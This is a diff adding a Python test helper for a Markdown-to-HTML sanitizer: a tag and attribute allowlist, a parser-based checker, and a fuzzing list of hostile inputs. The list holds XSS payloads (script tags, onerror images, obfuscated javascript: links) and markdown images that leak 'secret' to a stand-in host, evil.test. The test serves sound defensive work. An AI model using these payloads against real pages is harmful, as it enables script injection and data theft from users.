@@ -1,0 +1,92 @@
+"""What a page that shows a value may hold, and texts that would be more than text."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+TAGS = frozenset(
+    {"a", "b", "blockquote", "br", "code", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol"}
+    | {"p", "pre", "s", "small", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"}
+)
+ATTRIBUTES = {
+    "href": re.compile(r"(https?://|mailto:).*", re.IGNORECASE | re.DOTALL),
+    "title": re.compile(r".*", re.DOTALL),
+    "class": re.compile(r"language-\S*"),
+    "style": re.compile(r"text-align:(left|right|center)|white-space: pre-wrap"),
+    "start": re.compile(r"\d+"),
+    "open": re.compile(r""),
+    "dir": re.compile(r"auto"),
+}
+
+
+class Checker(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        for name, value in attrs:
+            assert name in ATTRIBUTES, (tag, name)
+            assert ATTRIBUTES[name].fullmatch(value or ""), (tag, name, value)
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def check_harmless(page: str) -> str:
+    """The page's text."""
+    checker = Checker()
+    checker.feed(page)
+    checker.close()
+    return checker.text
+
+
+def shown(page: str) -> str:
+    """The page's words."""
+    return " ".join(check_harmless(page.replace("<", " <")).split())
+
+
+EVIL = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<style>*{display:none}</style>",
+    "<iframe src=//evil.test>",
+    "<!-- a --> <?php ?> <!DOCTYPE x> <![CDATA[ x ]]>",
+    "</pre></details></div><script>1</script>",
+    "![secret](https://evil.test/?q=secret)",
+    "![secret][r]\n\n[r]: https://evil.test/?q=secret",
+    "[![i](https://evil.test/x.png)](https://evil.test)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](java\\\nscript:1) [x](&#x0a;javascript:1) [x](\x01javascript:1)",
+    "[x](data:text/html,<script>1</script>)",
+    "[x](data:image/svg+xml;base64,AAAA) [x](vbscript:1) [x](file:///etc/passwd)",
+    "[x](//evil.test) [x](/api/shutdown) [x](?a=1)",
+    '<javascript:alert(1)> <https://ok.test/"onclick=1>',
+    '[x](https://ok.test/"onmouseover="alert(1)) [x](https://ok.test "t\\" onclick=\\"1")',
+    '```"><script>alert(1)</script>\ncode\n```',
+    "``` `<script>` \n</code></pre><script>1</script>",
+    "    </code></pre><script>1</script>",
+    "`</code><script>1</script>`",
+    "$</span><script>1</script>$ \\(<script>1</script>\\) $$<img src=x>$$ \\[<b>\\]",
+    "| <script>1</script> |\n|:-:|\n| <img src=x> |",
+    "&lt;script&gt;1&lt;/script&gt; &#60;script&#62;",
+    "# <script>1</script>\n> <script>1</script>\n- <script>1</script>",
+    "\ud83d [\ud83d](https://ok.test/\ud83d) \x00",
+]
+PIECES = st.lists(
+    st.sampled_from([*EVIL, "\n", "\n\n", " ", "$", "\\", "`", "*", "[", "](", ")", "|", "<", ">", "x", '"'])
+)
+RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})]
+"""They let HTML through, with tables and without."""
